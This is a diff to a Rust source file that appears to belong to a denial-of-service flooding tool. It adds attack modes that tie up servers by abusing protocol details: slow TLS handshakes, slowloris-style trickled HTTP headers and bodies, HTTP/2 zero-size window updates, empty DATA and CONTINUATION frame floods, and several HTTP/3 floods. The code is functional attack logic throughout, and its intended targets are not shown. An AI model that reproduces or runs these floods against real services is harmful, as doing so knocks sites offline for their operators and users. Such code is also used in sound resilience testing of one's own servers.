@@ -10,12 +10,17 @@ use tokio::net::{TcpSocket, TcpStream, UdpSocket};
 use tokio::time::{interval, sleep, timeout};
 use tokio_rustls::TlsConnector;
 
-use super::{Flood, FloodKind, US, http3};
+use super::{Flood, FloodKind, US, agent, busy, http3};
 
-/// Does it once, until the relay ends it. Dropped, it is over.
-pub(super) async fn once(flood: &Flood) -> anyhow::Result<()> {
+/// Does it once, until the relay ends it: the act of this number. Dropped, it is over.
+pub(super) async fn once(flood: &Flood, number: u64) -> anyhow::Result<()> {
     let host = &flood.target.host;
     match flood.target.kind {
+        FloodKind::BusyTunnel => busy::once(flood, number).await,
+        FloodKind::AgentAnswers => agent::answers(flood, number).await,
+        FloodKind::AgentMessages => agent::messages(flood, number).await,
+        FloodKind::AgentNames => agent::names(flood, number).await,
+        FloodKind::AgentDeaf => agent::deaf(flood, number).await,
         FloodKind::Connections => {
             let stream = dial(flood, flood.target.http, BUFFER).await?;
             wait(stream).await
@@ -27,14 +32,18 @@ pub(super) async fn once(flood: &Flood) -> anyhow::Result<()> {
             timeout(LONG, connect).await??;
             Ok(())
         }
+        FloodKind::SlowHandshakes => {
+            // The begin of a record of 512 bytes (RFC 8446 section 5.1).
+            trickle(flood, flood.target.https, &[0x16, 3, 1, 2, 0]).await
+        }
         FloodKind::SlowHeads => {
             let begin = format!("GET / HTTP/1.1\r\nHost: {host}\r\nX: ");
-            trickle(flood, &begin).await
+            trickle(flood, flood.target.http, begin.as_bytes()).await
         }
         FloodKind::SlowBodies => {
             let begin =
                 format!("POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: 100000\r\n\r\nx");
-            trickle(flood, &begin).await
+            trickle(flood, flood.target.http, begin.as_bytes()).await
         }
         FloodKind::SlowReads => {
             let mut stream = dial(flood, flood.target.http, 4 << 10).await?;
@@ -68,6 +77,18 @@ pub(super) async fn once(flood: &Flood) -> anyhow::Result<()> {
             })
             .await
         }
+        FloodKind::BrokenStreams => {
+            frames(flood, &[], |number| {
+                let stream = 2 * number + 1;
+                // A window that grows by nothing (RFC 9113 section 6.9).
+                [get(host, stream, END_HEADERS), frame(8, 0, stream, &[0; 4])].concat()
+            })
+            .await
+        }
+        FloodKind::EmptyData => {
+            let begun = get(host, 1, END_HEADERS);
+            frames(flood, &begun, |_| frame(0, 0, 1, &[])).await
+        }
         FloodKind::Continuation => {
             let begun = get(host, 1, 0);
             frames(flood, &begun, |_| frame(9, 0, 1, &[0x40, 1, b'x', 1, b'x'])).await
@@ -79,7 +100,10 @@ pub(super) async fn once(flood: &Flood) -> anyhow::Result<()> {
         FloodKind::Windows => windows(flood).await,
         FloodKind::Http3Resets => http3::resets(flood).await,
         FloodKind::Http3SlowReads => http3::slow_reads(flood).await,
+        FloodKind::Http3SlowBodies => http3::slow_bodies(flood).await,
         FloodKind::Http3Heads => http3::heads(flood).await,
+        FloodKind::Http3Unknown => http3::unknown(flood).await,
+        FloodKind::Http3Frames => http3::frames(flood, number).await,
         FloodKind::HalfHandshakes => {
             let dialer = Dialer::bind(flood.target.quic)?;
             flood.sent();
@@ -100,7 +124,8 @@ pub(super) async fn once(flood: &Flood) -> anyhow::Result<()> {
     }
 }
 
-async fn dial(flood: &Flood, to: SocketAddr, buffer: u32) -> anyhow::Result<TcpStream> {
+/// A connection from our address, for which the system keeps this many bytes.
+pub(super) async fn dial(flood: &Flood, to: SocketAddr, buffer: u32) -> anyhow::Result<TcpStream> {
     let socket = TcpSocket::new_v4()?;
     socket.set_recv_buffer_size(buffer)?;
     socket.bind((US, 0).into())?;
@@ -116,9 +141,9 @@ async fn wait(mut stream: TcpStream) -> anyhow::Result<()> {
 }
 
 /// `begin`, and then a byte a second.
-async fn trickle(flood: &Flood, begin: &str) -> anyhow::Result<()> {
-    let mut stream = dial(flood, flood.target.http, BUFFER).await?;
-    stream.write_all(begin.as_bytes()).await?;
+async fn trickle(flood: &Flood, to: SocketAddr, begin: &[u8]) -> anyhow::Result<()> {
+    let mut stream = dial(flood, to, BUFFER).await?;
+    stream.write_all(begin).await?;
     let (mut read, mut write) = stream.split();
     let mut answer = [0; 4 << 10];
     loop {
@@ -243,7 +268,7 @@ fn get(host: &str, stream: u32, flags: u8) -> Vec<u8> {
     frame(1, flags, stream, &block)
 }
 
-const BUFFER: u32 = 64 << 10;
+pub(super) const BUFFER: u32 = 64 << 10;
 const LONG: Duration = Duration::from_secs(10);
 /// Frames of one connection, and how many of them every ten milliseconds.
 const FRAMES: u32 = 100_000;
